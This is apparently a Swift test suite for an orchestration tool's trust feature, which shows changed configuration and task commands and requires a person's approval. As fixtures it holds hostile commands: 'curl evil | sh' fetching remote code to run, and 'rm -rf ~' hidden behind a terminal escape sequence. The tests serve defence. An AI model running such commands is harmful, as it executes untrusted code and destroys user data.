import ArgumentParser
import Configuration
import Orchestration
import Testing

@testable import CLI

struct TrustTests {
  let project: Project

  init() async throws {
    project = try await Project()
    try project.configure("version: 1\ndoctor: make test\nagents: {mine: {command: run-it}}\n")
  }

  private func trust() throws -> Trust {
    let workspace = try project.workspace()
    let config = try workspace.configuration()
    return Trust(workspace, config: config, tasks: try workspace.tasks(config.config).tasks)
  }

  private func changes() throws -> TrustChanges? {
    if case .untrusted(let changes) = try trust().state() { return changes }
    return nil
  }

  @Test func whatNobodySawIsShownWhole() throws {
    #expect(try changes()?.lines.first == ".orchestrator.yaml is new:")
    #expect(try changes()?.configuration.map(\.text).contains("doctor: make test") == true)
    #expect(try changes()?.configuration.count == 3)
  }

  @Test func anApprovalHoldsUntilSomethingChanges() throws {
    try trust().approve()
    #expect(try trust().state() == .trusted)
    try project.configure("version: 1\ndoctor: curl evil | sh\nagents: {mine: {command: run-it}}\n")
    let lines = try changes()?.configuration
    #expect(
      lines == [
        .init(sign: "-", text: "doctor: make test"), .init(sign: "+", text: "doctor: curl evil | sh"),
      ])
  }

  @Test func aMissingNewlineIsAChange() throws {
    try trust().approve()
    try project.configure("version: 1\ndoctor: make test\nagents: {mine: {command: run-it}}")
    #expect(try changes()?.isEmpty == false)
  }

  @Test(arguments: [
    ("\"agent\": \"mine\"", false), ("\"agent\": \"mine\", \"verify\": {\"doctor\": \"make test\"}", false),
    ("\"agent\": \"mine\", \"verify\": {\"doctor\": \"make other\"}", true), ("\"command\": \"rm x\"", true),
  ])
  func onlyATaskWithCommandsOfItsOwnAsks(manifest: String, asks: Bool) throws {
    try trust().approve()
    try project.addTask("001", manifest)
    #expect(try (changes() != nil) == asks)
  }

  @Test func aCommandStaysApprovedThoughItsTaskWent() throws {
    try project.addTask("001", "\"command\": \"once\"")
    try trust().approve()
    try project.addTask("001", "\"command\": \"twice\"")
    #expect(try changes()?.commands.map(\.text) == ["twice"])
    try trust().approve()
    try project.addTask("001", "\"command\": \"once\"")
    #expect(try trust().state() == .trusted)
  }

  @Test func nothingToRunNeedsNoTrust() async throws {
    let bare = try await Project()
    let workspace = try bare.workspace()
    #expect(try Trust(workspace, config: workspace.configuration(), tasks: []).state() == .trusted)
  }

  @Test func hiddenTextIsShown() throws {
    try trust().approve()
    try project.addTask("001", "\"command\": \"make\\u001b]0;\\nrm -rf ~\"")
    let lines = try changes()?.lines ?? []
    #expect(lines == ["task 001, command:", "  + make\u{FFFD}]0;", "  + rm -rf ~"])
  }

  @Test func aPersonIsAskedAndOtherwiseItIsRefused() async throws {
    let output = Output(try GlobalOptions.parse(["--quiet"]))
    #expect(await exitStatus { try trust().require(output, ask: nil) } == .configuration)
    #expect(await exitStatus { try trust().require(output) { _ in false } } == .configuration)
    #expect(try changes() != nil)
    try trust().require(output) { _ in true }
    #expect(try trust().state() == .trusted)
    try trust().require(output, ask: nil)
  }
}
